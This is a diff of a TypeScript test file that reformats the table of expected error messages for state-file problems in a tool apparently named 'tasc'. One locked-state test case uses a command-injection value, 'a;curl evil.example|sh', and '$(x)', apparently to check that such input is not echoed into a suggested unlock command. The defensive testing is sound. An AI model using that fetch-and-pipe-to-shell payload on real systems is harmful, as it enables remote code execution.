@@ -16,9 +16,15 @@ const holder: LockInfo = {
 
 /** Each problem, and the words its message must contain: what is wrong, and a way out. */
 const rows: readonly (readonly [StateProblem, readonly string[]])[] = [
-  [{ kind: "corrupt", where, reason: "it is no JSON" }, [where, "it is no JSON", "Restore it from git"]],
+  [
+    { kind: "corrupt", where, reason: "it is no JSON" },
+    [where, "it is no JSON", "Restore it from git"],
+  ],
   [{ kind: "conflicted", where, line: 12 }, [`${where}:12`, "Keep one line for each binding"]],
-  [{ kind: "newer", where, version: 3, understood: 1 }, ["version 3", "up to 1", "Use the version"]],
+  [
+    { kind: "newer", where, version: 3, understood: 1 },
+    ["version 3", "up to 1", "Use the version"],
+  ],
   [
     { kind: "misplaced", where, expected: key, found: { stage: "production", target: "shop" } },
     ['stage "staging"', 'stage "production"', "Put the right document there"],
@@ -46,7 +52,11 @@ const rows: readonly (readonly [StateProblem, readonly string[]])[] = [
   ],
   [{ kind: "locked", key }, ["does not say who holds it", "tasc state unlock shop"]],
   [
-    { kind: "locked", key: { ...key, target: "a;curl evil.example|sh" }, holder: { ...holder, id: "$(x)" } },
+    {
+      kind: "locked",
+      key: { ...key, target: "a;curl evil.example|sh" },
+      holder: { ...holder, id: "$(x)" },
+    },
     ["\n  tasc state unlock TARGET --stage staging"],
   ],
   [{ kind: "lock-lost", key, reason: "its file is gone" }, ["Its file is gone.", "Run tasc again"]],
